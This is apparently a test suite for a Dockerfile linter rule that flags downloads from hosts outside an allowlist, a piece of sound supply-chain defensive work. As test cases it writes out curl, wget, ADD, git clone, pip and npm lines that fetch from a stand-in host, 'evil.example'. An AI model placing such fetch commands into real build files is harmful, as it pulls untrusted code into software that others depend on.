import { ruleSuite } from '../../../../../test/kit/rule-suite.js';
import untrustedDownloadHost from './untrusted-download-host.js';

const given = { options: { allowHosts: ['good.example.com', '*.internal.example'] } };
const file = (lines: string) => `FROM debian:trixie-slim\n${lines}\n`;

ruleSuite(untrustedDownloadHost, ({ flags, passes }) => {
  flags(
    'curl',
    file('RUN curl -fO https://«evil.example»/a'),
    given,
    '"evil.example" is not among the hosts that downloads may come from: use one of those, or extend allowHosts',
    {
      severity: 'warning',
    },
  );
  flags('wget, aria2c, git', file('RUN wget https://«a.b»/x && aria2c https://«c.d»/x && git clone git@«e.f»:x/y.git'), given);
  flags('ADD', file('ADD https://user@«evil.example»:8443/a /a'), given);
  flags('a package index', file('RUN pip install --index-url=https://«a.b»/simple -r r.txt && npm ci --registry https://«c.d»/'), given);
  flags('a setting', file('RUN npm config set registry https://«a.b»/ && pip config set global.index-url https://«c.d»/'), given);
  flags('the name itself below a wildcard', file('RUN curl -O https://«internal.example»/a'), given);
  flags('a value of ARG', file('ARG HOST=evil.example\nRUN curl -O «https://$HOST/a»'), given);
  flags(
    'one line in a whole file',
    'FROM node:24-slim\nWORKDIR /app\nRUN curl -fsSLO https://good.example.com/a \\\n && curl -fsSL https://«get.evil.example»/b -o b\nCOPY . .\nUSER 1000\nCMD ["node", "main.js"]\n',
    given,
  );
  passes('allowed hosts', file('RUN curl https://good.example.com/a https://GOOD.example.com/b https://x.internal.example/c'), given);
  passes('everything, without a list', file('RUN curl https://evil.example/a'));
  passes('a host that is not known', file('ARG HOST\nRUN curl https://$HOST/a'), given);
  passes('local sources', file('ADD a /a\nRUN git clone /src'), given);
});
